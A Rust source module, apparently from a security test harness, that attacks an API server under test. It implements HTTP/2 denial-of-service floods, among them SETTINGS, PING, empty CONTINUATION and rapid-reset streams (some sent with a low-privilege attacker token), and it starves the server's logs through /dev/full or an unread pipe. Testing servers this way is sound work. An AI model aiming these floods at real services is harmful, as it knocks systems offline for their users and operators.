//! Frames as fast as they go, and logs that have no room for what is said of them.

use std::{
    fs::File,
    io::{PipeReader, PipeWriter, Write},
    process::Stdio,
    sync::atomic::{AtomicUsize, Ordering},
    time::{Duration, Instant},
};

use anyhow::{Context, Result};
use futures_util::future::join_all;
use tokio::time::sleep;

use crate::{
    attack::{
        frames,
        ground::Target,
        options::Attack,
        raw::{Raw, Reads},
        report::Told,
    },
    http::Listener,
    subject::ATTACKER,
};

/// Connections of a flood.
const CONNECTIONS: usize = 8;
/// Connections of each kind among the frame floods.
const OF_A_KIND: usize = 4;
/// What is written at once, bytes; it is made once, for the flood is to cost the server and not the machine.
const BATCH_BYTES: usize = 16 << 10;
/// Requests that are made and reset in one batch.
const RESETS: usize = 64;
/// Wait before a connection that was closed is opened again.
const AGAIN: Duration = Duration::from_millis(20);

/// A frame that a flood is made of.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum Frame {
    Settings,
    Ping,
    Priority,
    EmptyData,
    EmptyContinuation,
    WindowUpdate,
    Reset,
    /// The same of requests that a replica forwards.
    ForwardedReset,
}

impl Frame {
    /// Whether each batch begins new streams.
    fn begins_streams(self) -> bool {
        matches!(self, Self::Reset | Self::ForwardedReset)
    }
}

impl Frame {
    /// A batch for a connection; rapid resets need new streams each time, and an open stream may have to be there.
    fn batch(self, raw: &Raw, first: bool) -> Vec<u8> {
        let (mut one, mut out) = (Vec::new(), Vec::new());
        match self {
            Self::Settings => frames::settings(&mut one, &[(frames::TABLE_SIZE, 4096)]),
            Self::Ping => frames::frame(&mut one, frames::PING, 0, 0, &[0; 8]),
            Self::Priority => frames::frame(&mut one, frames::PRIORITY, 0, 1, &[0, 0, 0, 0, 16]),
            Self::WindowUpdate => frames::frame(&mut one, frames::WINDOW_UPDATE, 0, 0, &1_u32.to_be_bytes()),
            Self::EmptyData => {
                if first {
                    raw.request(&mut out, "POST", "/api/v1/namespaces/default/configmaps", &[("content-type", "application/json")], false);
                }
                frames::frame(&mut one, frames::DATA, 0, 1, &[]);
            }
            Self::EmptyContinuation => {
                if first {
                    let stream = raw.stream();
                    frames::frame(&mut out, frames::HEADERS, frames::END_STREAM, stream, &frames::block(&[(":method", "GET")]));
                }
                frames::frame(&mut one, frames::CONTINUATION, 0, 1, &[]);
            }
            Self::Reset | Self::ForwardedReset => {
                let path = if self == Self::Reset { "/api/v1/configmaps" } else { "/version" };
                for _ in 0..RESETS {
                    let stream = raw.request(&mut out, "GET", path, &[], true);
                    frames::frame(&mut out, frames::RST_STREAM, 0, stream, &8_u32.to_be_bytes());
                }
                return out;
            }
        }
        out.extend(one.repeat(BATCH_BYTES / one.len()));
        out
    }
}

/// SETTINGS on a few connections, half of which read what comes back, without credentials.
pub(super) async fn settings(target: &Target, told: &mut Told) {
    flood(&target.strange(), Frame::Settings, CONNECTIONS, target.time, told, "settings").await;
}

/// The other kinds, one after the other, without credentials.
pub(super) async fn frames(target: &Target, told: &mut Told) {
    let kinds = [
        (Frame::Ping, "ping"),
        (Frame::Priority, "priority"),
        (Frame::EmptyData, "empty_data"),
        (Frame::EmptyContinuation, "continuation"),
        (Frame::WindowUpdate, "window_update"),
        (Frame::Reset, "reset"),
    ];
    for (frame, name) in kinds {
        flood(&target.strange(), frame, OF_A_KIND, target.time / 3, told, name).await;
    }
}

/// Rapid resets of requests that would have been answered.
pub(super) async fn resets(target: &Target, told: &mut Told) {
    flood(&target.plain, Frame::Reset, CONNECTIONS, target.time, told, "resets").await;
}

/// Rapid resets of requests that a replica forwards, by somebody who has no rights worth mentioning.
pub(super) async fn forwarded(target: &Target, told: &mut Told) {
    flood(&target.secure.with_token(ATTACKER), Frame::ForwardedReset, CONNECTIONS, target.time, told, "resets").await;
}

/// As fast as they go; who is thrown out comes back. Tells MiB sent and connections opened.
async fn flood(listener: &Listener, frame: Frame, connections: usize, time: Duration, told: &mut Told, name: &'static str) {
    let (end, sent, opened) = (Instant::now() + time, AtomicUsize::new(0), AtomicUsize::new(0));
    join_all((0..connections).map(async |nth| {
        let reads = if nth % 2 == 0 { Reads::Everything } else { Reads::Nothing };
        while Instant::now() < end {
            if let Ok(raw) = Raw::open(listener, 0, 65_535, reads).await {
                opened.fetch_add(1, Ordering::Relaxed);
                let first = frame.batch(&raw, true);
                let mut good = raw.send(&first).await.is_ok();
                let mut batch = frame.batch(&raw, false);
                while good && Instant::now() < end && !raw.seen().is_gone() {
                    good = raw.send(&batch).await.is_ok();
                    sent.fetch_add(batch.len(), Ordering::Relaxed);
                    if frame.begins_streams() {
                        batch = frame.batch(&raw, false);
                    }
                }
            }
            sleep(AGAIN).await;
        }
    }))
    .await;
    told.note(name, format!("{}MiB/{}", sent.load(Ordering::Relaxed) >> 20, opened.load(Ordering::Relaxed)));
}

/// Standard error with no room.
pub(super) enum Log {
    /// A disk that is full.
    Full,
    /// A pipe that nobody reads.
    Unread { _reader: PipeReader, room: PipeWriter },
}

impl Log {
    /// What an attack wants, if it wants any.
    pub(super) fn of(attack: Attack) -> Result<Option<Self>> {
        Ok(match attack {
            Attack::LogFull => Some(Self::Full),
            Attack::LogUnread => {
                let (_reader, room) = std::io::pipe()?;
                Some(Self::Unread { _reader, room })
            }
            _ => None,
        })
    }

    /// The server's standard error.
    pub(super) fn stderr(&self) -> Result<Stdio> {
        Ok(match self {
            Self::Full => Stdio::from(File::options().write(true).open("/dev/full").context("open /dev/full")?),
            Self::Unread { room, .. } => Stdio::from(room.try_clone()?),
        })
    }

    /// Takes what room there is, once the server is ready. The thread that does so waits until the pipe is closed.
    pub(super) fn fill(&self) -> Result<()> {
        if let Self::Unread { room, .. } = self {
            let mut writer = room.try_clone()?;
            std::thread::spawn(move || while writer.write_all(&[b'.'; 4096]).is_ok() {});
        }
        Ok(())
    }
}
